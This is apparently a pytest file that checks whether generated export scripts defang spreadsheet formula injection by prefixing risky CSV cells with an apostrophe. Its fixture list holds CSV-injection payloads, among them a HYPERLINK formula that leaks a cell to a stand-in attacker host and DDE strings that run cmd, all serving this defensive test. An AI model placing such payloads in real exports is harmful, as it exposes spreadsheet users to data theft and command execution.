"""The code both generated scripts share (``script_common.py.tmpl``), exercised inside each rendered
script: CSV cells a spreadsheet would run as formulas are written as text (OWASP: a leading '), unless
``--no-neutralize-formulas``; JSON and JSONL keep the raw text."""

from __future__ import annotations

import argparse
import csv
import io
import json
from contextlib import redirect_stdout
from typing import Any

import pytest

from wayfinder.portal.script_gen import (
    HTTP_TEMPLATE_NAME,
    TEMPLATE_NAME,
    build_spec,
    load_template,
    render_script,
)
from wayfinder.portal.steps import make_step

COLUMNS = ["Name", "Note"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # a full-width equals sign
    "=",
    "-",
]
PLAIN = ["Smith, Ann", "-12.50", "+3", "1,234.5", "20%", "ann@example.com", "", "Book 12 - Page 3"]


def _script(template: str) -> dict[str, Any]:
    steps = [
        make_step("fill", "fill 'Name'", [{"how": "css", "value": "#name"}], param="name", value="x"),
        make_step("submit", "click 'Search'", [{"how": "css", "value": "button"}]),
        make_step("wait_grid", "grid", [{"how": "css", "value": "table"}]),
    ]
    spec = build_spec(
        start_url="http://portal.test/search",
        steps=steps,
        columns=COLUMNS,
        column_mapping={c: f":scope > td:nth-child({i + 1})" for i, c in enumerate(COLUMNS)},
        row_selector="tr:has(> td)",
    )
    namespace: dict[str, Any] = {"__name__": "not_main"}
    exec(compile(render_script(spec, load_template(template)), "script.py", "exec"), namespace)
    return namespace


@pytest.fixture(scope="module", params=[TEMPLATE_NAME, HTTP_TEMPLATE_NAME])
def script(request: pytest.FixtureRequest) -> dict[str, Any]:
    return _script(request.param)


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_get_a_leading_quote(script: dict[str, Any], cell: str) -> None:
    assert script["neutral"](cell) == "'" + cell


@pytest.mark.parametrize("cell", PLAIN)
def test_plain_cells_and_numbers_are_kept(script: dict[str, Any], cell: str) -> None:
    assert script["neutral"](cell) == cell


def _written(script: dict[str, Any], fmt: str, *extra: str) -> str:
    parser = argparse.ArgumentParser()
    script["add_output_args"](parser)
    args = parser.parse_args(["--format", fmt, *extra])
    rows = [[f"row {i}", cell] for i, cell in enumerate(FORMULAS)]
    out = io.StringIO()
    with redirect_stdout(out):
        script["write"](rows, args)
    return out.getvalue()


def test_csv_is_neutralized_by_default_and_json_stays_raw(script: dict[str, Any]) -> None:
    table = list(csv.reader(io.StringIO(_written(script, "csv"))))
    assert table[0] == COLUMNS
    assert [row[1] for row in table[1:]] == ["'" + cell for cell in FORMULAS]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for cell in row)
    records = json.loads(_written(script, "json"))
    assert [r["Note"] for r in records] == FORMULAS
    lines = [json.loads(line) for line in _written(script, "jsonl").splitlines()]
    assert [r["Note"] for r in lines] == FORMULAS


def test_the_option_turns_neutralizing_off(script: dict[str, Any]) -> None:
    table = list(csv.reader(io.StringIO(_written(script, "csv", "--no-neutralize-formulas"))))
    assert [row[1] for row in table[1:]] == FORMULAS
